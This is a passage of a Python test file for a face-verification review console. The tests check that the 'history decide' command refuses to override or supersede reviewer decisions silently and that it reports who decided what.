    code, refused = console("history", "decide", str(other), "reject", "--reason", "Different person",
                            "--supersede", str(shown["decisions"][0]["id"]))
    assert code == 2 and refused["error"]["detail"] == "supersede"
    assert refused["error"]["message"] == (
        f"Entry {other} has no decision yet, so --supersede {shown['decisions'][0]['id']} names none of its decisions; "
        "nothing was recorded. Leave --supersede out to decide it.")
    assert console("history", "show", str(other))[1]["decisions"] == []


def test_history_decide_refuses_to_override_a_current_decision_unless_supersede_names_it(
        console, faces: Path) -> None:
    """A script deciding an entry a reviewer had decided overrode that decision without a word: it is refused, naming
    who decided what, when and why, and the --supersede that records the new one over it ('history show' lists the
    ids, the current decision first)."""
    entry = _verified(console, faces)
    assert console("history", "decide", str(entry), "reject", "--reason", "Different person")[0] == 0
    [current] = console("history", "show", str(entry))[1]["decisions"]
    code, refused = console("history", "decide", str(entry), "escalate", "--reason", "Needs a senior reviewer")
    assert code == 2 and refused["error"]["detail"] == "entry"
    assert refused["error"]["message"] == (
        f"Entry {entry} has a decision already: reject by reviewer-7 at {current['decided_at']}, reason \"Different "
        f"person\" (decision {current['id']}); nothing was recorded. To record yours over it, add --supersede "
        f"{current['id']} (see 'faceid-console history show {entry}').")
    assert console("history", "show", str(entry))[1]["decisions"] == [current]
    code, shown = console("history", "decide", str(entry), "escalate", "--reason", "Needs a senior reviewer",
                          "--supersede", str(current["id"]))
    assert code == 0 and shown["current_decision"] == "escalate"
    assert [(d["decision"], d["supersedes"]) for d in shown["decisions"]] == [("escalate", current["id"]),
                                                                              ("reject", None)]


def test_history_decide_with_a_supersede_no_longer_current_is_refused_naming_the_decision_made_since(
        console, faces: Path) -> None:
    """The id a script read with 'history show' is checked when the decision is recorded: another reviewer's decision
    made meanwhile is not superseded unseen."""
    from faceid_console.store import DecisionKind, decisions

    entry = _verified(console, faces)
    assert console("history", "decide", str(entry), "reject", "--reason", "Different person")[0] == 0
    [shown] = console("history", "show", str(entry))[1]["decisions"]
    store = _store()
    theirs = decisions.decide(store.engine, entry, DecisionKind.ESCALATE, "Needs a senior reviewer", note="",
                              operator="reviewer-2")
    store.close()
    decided_at = theirs.decided_at.isoformat(timespec="seconds") + "Z"
    code, refused = console("history", "decide", str(entry), "approve", "--reason",
                            "Same person, documents consistent", "--against-verdict", "--supersede", str(shown["id"]))
    assert code == 2 and refused["error"]["detail"] == "supersede"
    assert refused["error"]["message"] == (
        f"Decision {shown['id']} is not entry {entry}'s current one: that is escalate by reviewer-2 at {decided_at}, "
        f"reason \"Needs a senior reviewer\" (decision {theirs.id}), recorded since or named wrongly; nothing was "
        f"recorded. Check it with 'faceid-console history show {entry}', and to record yours over it, add "
        f"--supersede {theirs.id}.")
    assert [d["id"] for d in console("history", "show", str(entry))[1]["decisions"]] == [theirs.id, shown["id"]]
